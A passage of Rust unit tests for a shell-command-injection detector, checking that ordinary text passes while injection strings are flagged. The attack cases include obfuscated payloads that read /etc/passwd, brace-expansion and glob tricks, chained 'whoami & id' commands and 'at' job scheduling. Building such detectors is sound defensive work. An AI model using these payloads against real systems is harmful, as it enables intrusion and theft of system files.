    fn a_version_requirement_compares() {
        for benign in ["python>=3.9,<3.13", "django>=4.2", "node <= 20"] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        for attack in ["whoami>/tmp/x", "python >/tmp/x", "cat</etc/passwd"] {
            assert!(hits(attack).contains(&"command.start"), "{attack}");
        }
    }

    #[test]
    fn an_ampersand_between_words_is_and() {
        for benign in ["Python & Django", "Wget & Co", "Whoami & Why"] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        // Glued to letters, as in a company's initials (a weak rule's case: paranoia 2).
        for benign in ["AT&T", "at&t store", "AT&T Inc."] {
            assert!(hits2(benign).is_empty(), "{benign}: {:?}", hits2(benign));
        }
        // Before a command, glued or at the end, it is the shell's.
        for attack in ["whoami & id", "whoami &", "python & ls -la /"] {
            assert!(!hits(attack).is_empty(), "{attack}");
        }
        for attack in ["at&id", "at& t", "whoami&&t"] {
            assert!(!hits2(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn a_signed_urls_header_list_names_headers() {
        for benign in [
            "https://b.s3.amazonaws.com/k?X-Amz-Date=20240403T000000Z&X-Amz-SignedHeaders=content-type;host&X-Amz-Signature=ab12",
            "x-amz-signedheaders=host;x-amz-acl&x-amz-signature=ab12",
            "X-Goog-SignedHeaders=host",
        ] {
            assert!(hits2(benign).is_empty(), "{benign}: {:?}", hits2(benign));
        }
        for attack in [
            "x-amz-signedheaders=content-type;id",
            "x-amz-signedheaders=host;host evil.example",
            "ip=1;host&x=1",
            "x-amz-signedheaders=a&ip=1;host",
        ] {
            assert!(!hits(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn a_brace_group_glued_to_a_word_or_holding_a_blank_expands_nothing() {
        for benign in [
            "user{id,name},posts{id,title}",
            "{date, date, medium} at {time, time, short}",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        for attack in ["{cat,/etc/passwd}", ";{id,}", "a;{ls,-la}"] {
            assert!(
                hits(attack).contains(&"command.substitution"),
                "{attack}: {:?}",
                hits(attack)
            );
        }
    }

    #[test]
    fn a_word_in_markdown_bold_names_no_command() {
        for benign in [
            "**TL;DR:** The meeting is moved to Thursday",
            "**Note;** see below",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        for attack in ["/???/**t /etc/passwd", "c?t /etc/passwd", "/bin/**sh -c id"] {
            assert!(!hits(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn at_without_a_time_runs_nothing() {
        for frame in [
            "Error: boom\n    at /usr/src/app/node_modules/express/lib/router/layer.js:95:5",
            "x\n   at Acme.Orders.OrderService.Create(Order o) in /src/OrderService.cs:line 42",
        ] {
            assert!(hits(frame).is_empty(), "{frame}: {:?}", hits(frame));
        }
        for attack in [
            "x\nat now -f /tmp/x",
            "x;at 10:00 -f /tmp/x",
            "x;at -f /tmp/x now",
        ] {
            assert!(!hits(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn a_quality_value_is_no_separator() {
        for benign in ["gzip;q=1.0, *;q=0.5", "gzip;q=1.0, identity; q=0.5"] {
            assert!(hits2(benign).is_empty(), "{benign}: {:?}", hits2(benign));
        }
        for attack in ["gzip;id", "gzip;q;id", "whoami;q=x"] {
            assert!(!hits2(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn prose_passes() {
        for benign in [
            "cat tree for large cats",
            "tail -f log file",
            "du -sh sort by size",
            "alias ll ls -l",
            "whoami - icebreaker game",
            "curl up with a good book weekend",
            "ping me when the build is ready",
            "Tom & Jerry",
            "I'd like the top floor",
            "Super-mkdir; create a leaf directory",
            "| id | name |\n|----|------|",
            "kill time at the airport",
            "time to say goodbye to the old office",
            "python tutorial for beginners",
            "ansible-lint is a linter. It checks playbooks",
            "pip3 install: how does it work?",
            "Use whoami to check it first, then copy the folder.",
            "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit",
            "curl/7.81.0",
            "wget",
            "Dd/mm/yyyy format",
            "text/html;q=0.9,*/*;q=0.8",
            "If the HAVING clause is present, it eliminates groups",
            "for 50% in (Q3) we grew",
            "O'Keefe's",
            "rock 'n' roll",
            "Expand shell variables of form $var and ${var}.",
            "see clone(2) and setns(2)",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        assert_eq!(hits2("tail -f log file"), ["command.start-weak"]);
    }
}
